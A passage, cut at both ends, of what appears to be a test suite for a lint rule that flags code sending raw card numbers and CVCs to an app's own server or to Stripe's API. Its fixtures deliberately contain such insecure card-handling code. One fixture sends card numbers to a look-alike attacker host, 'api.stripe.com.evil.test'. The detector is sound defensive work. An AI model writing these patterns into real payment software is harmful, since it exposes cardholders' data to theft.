    cvv: form.cvv,
  };
  const { data } = await axios.post('/api/orders', { items: cart.items, payment });
  return data.orderId;
}
`,
      filename: 'src/checkout/submitOrder.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/orders', what: 'card number (PAN)', field: 'payment.card_number' }, line: 6, column: 5, endLine: 6, endColumn: 16 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/orders', what: 'card security code (CVC)', field: 'payment.cvv' }, line: 8, column: 5, endLine: 8, endColumn: 8 },
      ],
    },
    {
      // Formik and react-hook-form hand the submit handler the form's values, whose keys are the initial values'
      // (real-world batch AM)
      code: `import axios from 'axios';
import { useFormik } from 'formik';
import { useForm } from 'react-hook-form';

export function SaveCard() {
  const formik = useFormik({
    initialValues: { cardNumber: '', cvv: '', holder: '' },
    onSubmit: (values) => axios.post('/api/savecard', values),
  });
  const { register, handleSubmit } = useForm({ defaultValues: { number: '', cvc: '', expiry: '' } });
  return [formik, handleSubmit((data) => axios.put('/api/savecard/1', { card: data })), register];
}
`,
      filename: 'src/SaveCard.jsx',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST /api/savecard', what: 'card number (PAN) and card security code (CVC)', field: 'cardNumber, cvv' }, line: 8, column: 55, endLine: 8, endColumn: 61 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'PUT /api/savecard/1', what: 'card number (PAN) and card security code (CVC)', field: 'card.number, card.cvc' }, line: 11, column: 73, endLine: 11, endColumn: 77 },
      ],
    },
    {
      // A shadcn/ui form: react-hook-form with a zod resolver and no defaultValues, submitted through
      // \`form.handleSubmit(onSubmit)\` to a function declaration: the values have the schema's keys
      code: `'use client';

import { zodResolver } from '@hookform/resolvers/zod';
import { useForm } from 'react-hook-form';
import { z } from 'zod';
import { Button } from '@/components/ui/button';
import { Form } from '@/components/ui/form';

const paymentSchema = z.object({
  cardholder: z.string().min(2),
  cardNumber: z.string().regex(/^\\d{13,19}$/),
  expiry: z.string(),
  cvc: z.string().length(3),
  saveCard: z.boolean().default(false),
});

export function PaymentForm({ orderId }: { orderId: string }) {
  const form = useForm<z.infer<typeof paymentSchema>>({ resolver: zodResolver(paymentSchema) });

  async function onSubmit(values: z.infer<typeof paymentSchema>) {
    const res = await fetch(\`/api/orders/\${orderId}/pay\`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify(values),
    });
    if (!res.ok) form.setError('root', { message: 'Payment failed' });
  }

  return (
    <Form {...form}>
      <form onSubmit={form.handleSubmit(onSubmit)}>
        <Button type="submit">Pay</Button>
      </form>
    </Form>
  );
}
`,
      filename: 'src/components/payment-form.tsx',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/orders/…/pay', what: 'card number (PAN) and card security code (CVC)', field: 'cardNumber, cvc' }, line: 24, column: 28, endLine: 24, endColumn: 34 },
      ],
    },
    {
      // A mobile app's API adapter drops the id and posts the rest of a typed card (real-world batch AK); a rest that
      // leaves the number and CVC out is fine
      code: `import axios from 'axios';

const api = axios.create({ baseURL: 'https://api.wallet.example' });
export interface Card { id: string; holder: string; number: string; cvv: string; expiry: string }

export async function saveCard(card: Card) {
  const { id, ...props } = card;
  const { number, cvv, ...display } = card;
  await api.post('/cards', props);
  await api.put(\`/cards/\${id}/display\`, display);
}
`,
      filename: 'mobile/src/common/adapters/cards/index.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST api.wallet.example/cards', what: 'card number (PAN) and card security code (CVC)', field: 'number, cvv' }, line: 9, column: 28, endLine: 9, endColumn: 33 },
      ],
    },
    {
      // A Mantine form's submit handler posts the values its \`initialValues\` shape (real-world batch DG)
      code: `import { useForm } from '@mantine/form';
import { TextInput, Button } from '@mantine/core';

export function ClassBooking({ classId }: { classId: string }) {
  const form = useForm({ initialValues: { name: '', email: '', cardNumber: '', cvc: '' } });

  return (
    <form
      onSubmit={form.onSubmit((values) =>
        fetch(\`/api/classes/\${classId}/book\`, { method: 'POST', body: JSON.stringify(values) }),
      )}
    >
      <TextInput label="Name" {...form.getInputProps('name')} />
      <TextInput label="Email" {...form.getInputProps('email')} />
      <TextInput label="Card number" {...form.getInputProps('cardNumber')} />
      <TextInput label="CVC" {...form.getInputProps('cvc')} />
      <Button type="submit">Book</Button>
    </form>
  );
}
`,
      filename: 'src/booking/ClassBooking.tsx',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST /api/classes/…/book', field: 'cardNumber, cvc', what: 'card number (PAN) and card security code (CVC)' }, line: 10, column: 86, endLine: 10, endColumn: 92 },
      ],
    },
    {
      // A card wallet's service posts a bare \`number\` beside the card's expiry month and year (real-world batch DF); a
      // passport's number beside an expiry date, and a ticket's, are no card's
      code: `angular.module('wallet').factory('CardService', function ($http) {
  return {
    add: function (name, numero, brand, m, y) {
      return $http({ method: 'POST', url: '/api/cards', data: { name: name, number: numero, brand: brand, exp_month: m, exp_year: y } });
    },
    passport: function (p) {
      return $http.post('/api/travellers', { number: p.number, expiry: p.expiry, country: p.country });
    },
    ticket: function (t) {
      return $http.post('/api/tickets', { number: t.number, exp_date: t.validUntil });
    },
  };
});
`,
      filename: 'public/js/services/card.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: '$http', endpoint: 'POST /api/cards', field: 'number', what: 'card number (PAN)' }, line: 4, column: 77, endLine: 4, endColumn: 83 },
      ],
    },
    {
      // An AngularJS controller posts the card fields of its scope with \`$http\` (real-world batch DE)
      code: `angular.module('gymApp').controller('MembershipController', function ($scope, $http, $location) {
  $scope.member = {};
  $scope.plan = 'monthly';

  $scope.register = function () {
    $http.post('/api/members/register', {
      name: $scope.member.name,
      email: $scope.member.email,
      plan: $scope.plan,
      cardNumber: $scope.cardNumber,
      securityCode: $scope.securityCode,
      expiration: $scope.expiration,
    }).then(function () {
      $location.path('/welcome');
    });
  };

  $scope.renew = function (member) {
    return $http({
      method: 'POST',
      url: '/api/members/' + member.id + '/renew',
      data: { cardNumber: member.cardNumber, cvv: member.cvv },
    });
  };
});
`,
      filename: 'public/js/controllers/signup.controller.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: '$http', endpoint: 'POST /api/members/register', field: 'cardNumber', what: 'card number (PAN)' }, line: 10, column: 7, endLine: 10, endColumn: 17 },
        { messageId: 'rawCardToOwnServer', data: { client: '$http', endpoint: 'POST /api/members/register', field: 'securityCode', what: 'card security code (CVC)' }, line: 11, column: 7, endLine: 11, endColumn: 19 },
        { messageId: 'rawCardToOwnServer', data: { client: '$http', endpoint: 'POST /api/members/…/renew', field: 'cardNumber', what: 'card number (PAN)' }, line: 22, column: 15, endLine: 22, endColumn: 25 },
        { messageId: 'rawCardToOwnServer', data: { client: '$http', endpoint: 'POST /api/members/…/renew', field: 'cvv', what: 'card security code (CVC)' }, line: 22, column: 46, endLine: 22, endColumn: 49 },
      ],
    },
    {
      // A service keeps its axios instance in a field set in the constructor, and posts the card through it (real-world batch DD)
      code: `import axios, { type AxiosInstance } from 'axios';

export interface CardDetails { number: string; expMonth: number; expYear: number; cvc: string; holder: string }

export class PaymentGatewayService {
  private readonly http: AxiosInstance;

  constructor(apiKey: string) {
    this.http = axios.create({
      baseURL: 'https://payments.clinic-portal.example/api/v2',
      headers: { Authorization: \`Bearer \${apiKey}\` },
    });
  }

  async chargeInvoice(invoiceId: string, card: CardDetails) {
    const { data } = await this.http.post(\`/invoices/\${invoiceId}/charge\`, {
      card_number: card.number,
      cvc: card.cvc,
      exp_month: card.expMonth,
      exp_year: card.expYear,
    });
    return data;
  }

  async invoices() {
    return (await this.http.get('/invoices')).data;
  }
}
`,
      filename: 'src/services/payment-gateway.service.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST payments.clinic-portal.example/api/v2/invoices/…/charge', field: 'card_number', what: 'card number (PAN)' }, line: 17, column: 7, endLine: 17, endColumn: 18 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST payments.clinic-portal.example/api/v2/invoices/…/charge', field: 'cvc', what: 'card security code (CVC)' }, line: 18, column: 7, endLine: 18, endColumn: 10 },
      ],
    },
    {
      // A hand-rolled card form posts the card to the app's own API (no Stripe in the file): the page handles card data
      code: `import { useState } from 'react';

export function PaymentForm({ amount }) {
  const [form, setForm] = useState({ number: '', expiry: '', cvc: '' });
  async function submit(event) {
    event.preventDefault();
    await fetch(\`\${process.env.REACT_APP_API}/pay\`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ cardNumber: form.number, cvv: form.cvc, expiry: form.expiry, amount }),
    });
  }
  return <form onSubmit={submit} />;
}
`,
      filename: 'src/PaymentForm.jsx',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST …/pay', what: 'card number (PAN)', field: 'cardNumber' }, line: 10, column: 30, endLine: 10, endColumn: 40 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST …/pay', what: 'card security code (CVC)', field: 'cvv' }, line: 10, column: 55, endLine: 10, endColumn: 58 },
      ],
    },
    {
      // A known host with a computed part in the path: the message shows the part as … (real-world batch AU)
      code: `import axios from 'axios';

export async function saveCard(user, card) {
  const { data } = await axios.post(\`http://localhost:5000/api/payment-method/\${user._id}\`, { cardNumber: card.number, cvv: card.cvv });
  return data;
}
`,
      filename: 'frontend/src/pages/Profile.jsx',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST localhost/api/payment-method/…', what: 'card number (PAN)', field: 'cardNumber' }, line: 4, column: 95, endLine: 4, endColumn: 105 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST localhost/api/payment-method/…', what: 'card security code (CVC)', field: 'cvv' }, line: 4, column: 120, endLine: 4, endColumn: 123 },
      ],
    },
    {
      // Raw HTTP elsewhere: another host, a look-alike of Stripe's (hosts are parsed exactly: not api.stripe.com), a
      // base URL from the environment (the host is unknown, the card data is not)
      code: `
export async function other(card: { number: string; cvc: string }) {
  await fetch('https://api.example.com/v1/tokens', { method: 'POST', body: new URLSearchParams({ 'card[number]': card.number }) });
  await fetch('https://api.stripe.com.evil.test/v1/tokens', { method: 'POST', body: new URLSearchParams({ 'card[number]': card.number }) });
  await fetch(\`\${process.env.STRIPE_API_BASE}/v1/tokens\`, { method: 'POST', body: new URLSearchParams({ 'card[number]': card.number, 'card[cvc]': card.cvc }) });
}
`,
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.example.com/v1/tokens', what: 'card number (PAN)', field: 'card[number]' }, line: 3, column: 98, endLine: 3, endColumn: 112 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.stripe.com.evil.test/v1/tokens', what: 'card number (PAN)', field: 'card[number]' }, line: 4, column: 107, endLine: 4, endColumn: 121 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST …/v1/tokens', what: 'card number (PAN)', field: 'card[number]' }, line: 5, column: 105, endLine: 5, endColumn: 119 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST …/v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' }, line: 5, column: 134, endLine: 5, endColumn: 145 },
      ],
    },
    {
      // A Brazilian shop's card form posted to its own API (real-world batch DN): a bare \`numero\` beside the \`cvv\` is
      // the card's number, as a bare \`number\` is
      code: `import { api } from './api';

export async function salvarCartao(event) {
  event.preventDefault();
  const nome = document.getElementById('nome').value;
  const numero = document.getElementById('numero').value;
  const validade = document.getElementById('validade').value;
  const cvv = document.getElementById('cvv').value;
  const resposta = await fetch('http://localhost:3333/cartoes', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ nome, numero, validade, cvv }),
  });
  return resposta.json();
}
`,
      filename: 'src/pages/cartao.js',
      output: null,
      errors: [
        {
          messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST localhost/cartoes', field: 'numero', what: 'card number (PAN)' }, line: 12, column: 34, endLine: 12, endColumn: 40,
          suggestions: [],
        },
        {
          messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST localhost/cartoes', field: 'cvv', what: 'card security code (CVC)' }, line: 12, column: 52, endLine: 12, endColumn: 55,
          suggestions: [],
        },
      ],
    },
    {
      // An integration's own Stripe helper (real-world batch DK: workflow nodes and MCP servers): the path after the
      // host is the caller's, so the body is read with every card endpoint's containers; the GET has no body
      code: `import axios from 'axios';

const STRIPE_API = 'https://api.stripe.com/v1';

async function stripeApiRequest(method: 'GET' | 'POST', endpoint: string, body: Record<string, unknown> = {}) {
  const { data } = await axios({
    method,
    url: \`\${STRIPE_API}\${endpoint}\`,
    data: new URLSearchParams(body as Record<string, string>),
    headers: { Authorization: \`Bearer \${process.env.STRIPE_SECRET_KEY}\` },
  });
  return data;
}

export async function createCardToken(params: { number: string; expMonth: string; expYear: string; cvc: string }) {
  return stripeApiRequest('POST', '/tokens', {
    'card[number]': params.number,
    'card[exp_month]': params.expMonth,
    'card[exp_year]': params.expYear,
    'card[cvc]': params.cvc,
  });
}

export async function listCharges(limit: number) {
  return stripeApiRequest('GET', \`/charges?limit=\${limit}\`);
}
`,
      filename: 'src/nodes/Stripe/GenericFunctions.ts',
      output: null,
      errors: [
        { messageId: 'rawCardOverHttp', data: { client: 'axios', endpoint: 'POST /v1…', field: 'card[number]', what: 'card number (PAN)' }, line: 17, column: 5, endLine: 17, endColumn: 19 },
        { messageId: 'rawCardOverHttp', data: { client: 'axios', endpoint: 'POST /v1…', field: 'card[cvc]', what: 'card security code (CVC)' }, line: 20, column: 5, endLine: 20, endColumn: 16 },
      ],
    },
    {
      // NestJS: HttpService (@nestjs/axios) injected by type, posting a card to Stripe's API
      code: `import { Injectable } from '@nestjs/common';
import { HttpService } from '@nestjs/axios';

@Injectable()
export class Cards {
  constructor(private readonly http: HttpService) {}

  tokenize(number: string) {
    return this.http.post('https://api.stripe.com/v1/tokens', new URLSearchParams({ 'card[number]': number }));
  }
}
`,
      filename: 'src/cards/cards.service.ts',
      output: null,
      errors: [
        { messageId: 'rawCardOverHttp', data: { client: 'HttpService', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' }, line: 9, column: 85, endLine: 9, endColumn: 99 },
      ],
    },
    {
      // Angular: an HttpClient injected by type posts the card fields (real-world batch AI: three Angular card forms)
      code: `import { Injectable } from '@angular/core';
import { HttpClient } from '@angular/common/http';

@Injectable({ providedIn: 'root' })
export class PaymentService {
  constructor(private http: HttpClient) {}

  pay(cardNumber: string, cvv: string, amount: number) {
    return this.http.post('/api/pay', { cardNumber, cvv, amount });
  }
}
`,
      filename: 'src/app/payment.service.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'HttpClient', endpoint: 'POST /api/pay', what: 'card number (PAN)', field: 'cardNumber' }, line: 9, column: 41, endLine: 9, endColumn: 51 },
        { messageId: 'rawCardToOwnServer', data: { client: 'HttpClient', endpoint: 'POST /api/pay', what: 'card security code (CVC)', field: 'cvv' }, line: 9, column: 53, endLine: 9, endColumn: 56 },
      ],
    },
    {
      // jQuery: the classic checkout page that reads its own inputs and posts them with $.ajax
      code: `$('#payment-form').on('submit', function (event) {
  event.preventDefault();
  $.ajax({
    url: '/stripe/cards/store',
    type: 'POST',
    data: { card_number: $('#cc-number').val(), card_cvc: $('#cc-cvc').val(), exp: $('#cc-exp').val() },
  });
});
`,
      filename: 'public/js/checkout.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'jQuery', endpoint: 'POST /stripe/cards/store', what: 'card number (PAN)', field: 'card_number' }, line: 6, column: 13, endLine: 6, endColumn: 24 },
        { messageId: 'rawCardToOwnServer', data: { client: 'jQuery', endpoint: 'POST /stripe/cards/store', what: 'card security code (CVC)', field: 'card_cvc' }, line: 6, column: 49, endLine: 6, endColumn: 57 },
      ],
    },
    {
      // A server forwards the card it received to another processor's API: card data on the server
      code: `const express = require('express');
const axios = require('axios');
const app = express();

app.post('/checkout', express.json(), async (req, res) => {
  const { card, amount } = req.body;
  const result = await axios.post('https://api.example-gateway.com/v1/payments', {
    amount,
    card: { number: card.number, cvc: card.cvc, expMonth: card.expMonth, expYear: card.expYear },
  });
  res.json({ id: result.data.id });
});
`,
      filename: 'server.js',
      output: null,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST api.example-gateway.com/v1/payments', what: 'card number (PAN)', field: 'card.number' }, line: 9, column: 13, endLine: 9, endColumn: 19 },
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST api.example-gateway.com/v1/payments', what: 'card security code (CVC)', field: 'card.cvc' }, line: 9, column: 34, endLine: 9, endColumn: 37 },
      ],
    },
    {
      // NestJS: a card DTO declared in the file reaches Stripe as a parameter, destructured or as a member of the
      // request DTO (real-world batch AF: a microservices course's payments service); a GraphQL input type the same way
      code: `import { Injectable } from '@nestjs/common';
import { Args, Field, InputType, Mutation, Resolver } from '@nestjs/graphql';
import { IsCreditCard, IsNumber, IsString } from 'class-validator';
import Stripe from 'stripe';

export class CardDto {
  @IsString() cvc: string;
  @IsNumber() exp_month: number;
  @IsNumber() exp_year: number;
  @IsCreditCard() number: string;
}

export class CreateChargeDto {
  card: CardDto;
  amount: number;
}

@InputType()
class CardInput {
  @Field() number: string;
  @Field() cvc: string;
}

@Injectable()
export class PaymentsService {
  private readonly stripe = new Stripe(process.env.STRIPE_SECRET_KEY!, { apiVersion: '2023-10-16' });

  async createCharge({ card, amount }: CreateChargeDto) {
    const paymentMethod = await this.stripe.paymentMethods.create({ type: 'card', card });
    return this.stripe.paymentIntents.create({ payment_method: paymentMethod.id, amount: amount * 100, confirm: true, currency: 'usd' });
  }

  async tokenize(dto: CreateChargeDto) {
    return this.stripe.tokens.create({ card: dto.card });
  }
}

@Resolver()
export class PayResolver {
  constructor(private readonly stripe: Stripe) {}

  @Mutation(() => String)
  async pay(@Args('card') card: CardInput) {
    return (await this.stripe.paymentMethods.create({ type: 'card', card })).id;
  }
}
`,
      filename: 'payments.service.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', what: 'card security code (CVC) and card number (PAN)', field: 'card.cvc, card.number' }, line: 29, column: 83, endLine: 29, endColumn: 87, suggestions: [] },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card security code (CVC) and card number (PAN)', field: 'card.cvc, card.number' }, line: 34, column: 40, endLine: 34, endColumn: 44, suggestions: [] },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', what: 'card number (PAN) and card security code (CVC)', field: 'card.number, card.cvc' }, line: 44, column: 69, endLine: 44, endColumn: 73, suggestions: [] },
      ],
    },
    {
      // Express in TypeScript: the body annotated or asserted as a card type declared in the file; a value asserted to
      // Stripe's own type, whose fields the file does not show, is still what tokens.create's \`card\` is without a
      // customer: a raw card (real-world batch FS)
      code: `import express, { type Request, type Response } from 'express';
import Stripe from 'stripe';

const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);
interface CardBody { number: string; exp_month: number; exp_year: number; cvc: string }

export async function createToken(req: Request, res: Response) {
  const card: CardBody = req.body;
  const token = await stripe.tokens.create({ card });
  const again = await stripe.tokens.create({ card: req.body as CardBody });
  const typed = await stripe.tokens.create({ card: req.body.card as Stripe.TokenCreateParams.Card });
  res.json({ token: token.id, again: again.id, typed: typed.id });
}
`,
      filename: 'routes/tokens.ts',
      output: null,
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card number (PAN) and card security code (CVC)', field: 'card.number, card.cvc' }, line: 9, column: 46, endLine: 9, endColumn: 50, suggestions: [] },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card number (PAN) and card security code (CVC)', field: 'card.number, card.cvc' }, line: 10, column: 46, endLine: 10, endColumn: 50, suggestions: [] },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card details (number, expiry date and CVC)', field: 'card' }, line: 11, column: 52, endLine: 11, endColumn: 98, suggestions: [] },
      ],
    },
    {
      // A Next.js API route that builds the payload step by step: \`param.card = {…}\` before the call (real-world batch H)
      code: `import Stripe from 'stripe';

const stripe = new Stripe(process.env.STRIPE_SECRET_KEY);

export default async function handler(req, res) {
  var param = {};
  param.card = {
    number: req.body.number,
    exp_month: req.body.exp_month,
    exp_year: req.body.exp_year,
    cvc: req.body.cvc,
  };
  const token = await stripe.tokens.create(param);
  res.status(200).json(token);
}
`,
      filename: 'pages/api/create_card_token.js',
      output: null,
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card number (PAN)', field: 'card.number' }, line: 8, column: 5, endLine: 8, endColumn: 11, suggestions: [] },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card security code (CVC)', field: 'card.cvc' }, line: 11, column: 5, endLine: 11, endColumn: 8, suggestions: [] },
      ],
    },
    {
      // computed member names are resolved before the request check: axios['post'] and axios[verb]
      code: `
import axios from 'axios';
const verb = 'post';
export async function tokenize(number: string, cvc: string) {
  await axios['post']('https://api.stripe.com/v1/tokens', { card: { number, cvc } });
  await axios[verb]('https://api.stripe.com/v1/tokens', { card: { number, cvc } });
}
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'axios', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' },
          line: 5,
          column: 69,
          endLine: 5,
          endColumn: 75,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'axios', endpoint: 'POST /v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' },
          line: 5,
          column: 77,
          endLine: 5,
          endColumn: 80,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'axios', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' },
          line: 6,
          column: 67,
          endLine: 6,
          endColumn: 73,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'axios', endpoint: 'POST /v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' },
          line: 6,
          column: 75,
          endLine: 6,
          endColumn: 78,
          suggestions: [],
        },
      ],
    },
    {
      // Express handler: tokens.create with the card from the request body
      code: `
import express from 'express';
import Stripe from 'stripe';

const stripe = new Stripe(process.env.STRIPE_SECRET_KEY);
const router = express.Router();

router.post('/cards', async (req, res) => {
  const token = await stripe.tokens.create({
    card: {
      number: req.body.cardNumber,
      exp_month: req.body.expMonth,
      exp_year: req.body.expYear,
      cvc: req.body.cvc,
    },
  });
  res.json({ token: token.id });
});
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.tokens.create', what: 'card number (PAN)', field: 'card.number' },
          line: 11,
          column: 7,
          endLine: 11,
          endColumn: 13,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.tokens.create', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 14,
          column: 7,
          endLine: 14,
          endColumn: 10,
          suggestions: [],
        },
      ],
    },
    {
      // tokens.create cvc_update (raw CVC)
      code: `
import { Stripe as StripeNode } from 'stripe';
const stripe = new StripeNode(process.env.STRIPE_SECRET_KEY!);
export const recollect = (cvc: string) => stripe.tokens.create({ cvc_update: { cvc } });
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.tokens.create', what: 'card security code (CVC)', field: 'cvc_update.cvc' },
          line: 4,
          column: 80,
          endLine: 4,
          endColumn: 83,
          suggestions: [],
        },
      ],
    },
    {
      // paymentMethods.create with a const card object (public-code shape)
      code: `
import Stripe from 'stripe';
const stripe = new Stripe(process.env.STRIPE_SECRET_KEY);
export async function addCard(input) {
  const card = { number: input.number, exp_month: input.exp_month, exp_year: input.exp_year, cvc: input.cvc };
  return stripe.paymentMethods.create({ type: 'card', card });
}
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card number (PAN)', field: 'card.number' },
          line: 5,
          column: 18,
          endLine: 5,
          endColumn: 24,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 5,
          column: 94,
          endLine: 5,
          endColumn: 97,
          suggestions: [],
        },
      ],
    },
    {
      // paymentIntents / setupIntents create, update, confirm with payment_method_data.card
      code: `
import { Stripe } from 'stripe';
const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);
export async function pay(b: any) {
  const pi = await stripe.paymentIntents.create({
    amount: 2000,
    currency: 'usd',
    payment_method_data: { type: 'card', card: { number: b.pan, exp_month: b.mm, exp_year: b.yy, cvc: b.cvv } },
  });
  await stripe.paymentIntents.update(pi.id, { payment_method_data: { type: 'card', card: { number: b.pan } } });
  await stripe.paymentIntents.confirm(pi.id, { payment_method_data: { type: 'card', card: { cvc: b.cvv } } });
  await stripe.setupIntents.create({ payment_method_data: { type: 'card', card: { number: b.pan } } });
  await stripe.setupIntents.confirm('seti_1', { payment_method_data: { type: 'card', card: { number: b.pan } } });
}
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentIntents.create', what: 'card number (PAN)', field: 'payment_method_data.card.number' },
          line: 8,
          column: 50,
          endLine: 8,
          endColumn: 56,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentIntents.create', what: 'card security code (CVC)', field: 'payment_method_data.card.cvc' },
          line: 8,
          column: 98,
          endLine: 8,
          endColumn: 101,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentIntents.update', what: 'card number (PAN)', field: 'payment_method_data.card.number' },
          line: 10,
          column: 92,
          endLine: 10,
          endColumn: 98,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentIntents.confirm', what: 'card security code (CVC)', field: 'payment_method_data.card.cvc' },
          line: 11,
          column: 93,
          endLine: 11,
          endColumn: 96,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.setupIntents.create', what: 'card number (PAN)', field: 'payment_method_data.card.number' },
          line: 12,
          column: 83,
          endLine: 12,
          endColumn: 89,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.setupIntents.confirm', what: 'card number (PAN)', field: 'payment_method_data.card.number' },
          line: 13,
          column: 94,
          endLine: 13,
          endColumn: 100,
          suggestions: [],
        },
      ],
    },
    {
      // sources.create with a card (public code passes req.body.credit_card_number)
      code: `
const stripe = require('stripe')(process.env.STRIPE_SECRET_KEY);
module.exports = async (req, res) => {
  const source = await stripe.sources.create({
    type: 'card',
    card: { number: req.body.credit_card_number, exp_month: req.body.exp_month, exp_year: req.body.exp_year, cvc: req.body.cvc },
  });
  res.send(source.id);
};
`,
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.sources.create', what: 'card number (PAN)', field: 'card.number' },
          line: 6,
          column: 13,
          endLine: 6,
          endColumn: 19,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.sources.create', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 6,
          column: 110,
          endLine: 6,
          endColumn: 113,
          suggestions: [],
        },
      ],
    },
    {
      // customers.create / update / createSource and charges.create with a card hash in source or card
      code: `
import Stripe from 'stripe';
const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);
export async function legacy(form: { cc: string; cvc: string; month: number; year: number }, customerId: string) {
  await stripe.customers.create({ email: 'a@b.c', source: { object: 'card', number: form.cc, exp_month: form.month, exp_year: form.year, cvc: form.cvc } } as any);
  await stripe.customers.update(customerId, { card: { number: form.cc, exp_month: form.month, exp_year: form.year } } as any);
  await stripe.customers.createSource(customerId, { source: { object: 'card', exp_month: 10, exp_year: 2030, number: form.cc, cvc: 100 } } as any);
  await stripe.charges.create({ amount: 400, currency: 'usd', source: { object: 'card', number: form.cc, cvc: form.cvc } } as any);
}
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.customers.create', what: 'card number (PAN)', field: 'source.number' },
          line: 5,
          column: 77,
          endLine: 5,
          endColumn: 83,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.customers.create', what: 'card security code (CVC)', field: 'source.cvc' },
          line: 5,
          column: 138,
          endLine: 5,
          endColumn: 141,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.customers.update', what: 'card number (PAN)', field: 'card.number' },
          line: 6,
          column: 55,
          endLine: 6,
          endColumn: 61,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.customers.createSource', what: 'card number (PAN)', field: 'source.number' },
          line: 7,
          column: 110,
          endLine: 7,
          endColumn: 116,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.customers.createSource', what: 'card security code (CVC)', field: 'source.cvc' },
          line: 7,
          column: 127,
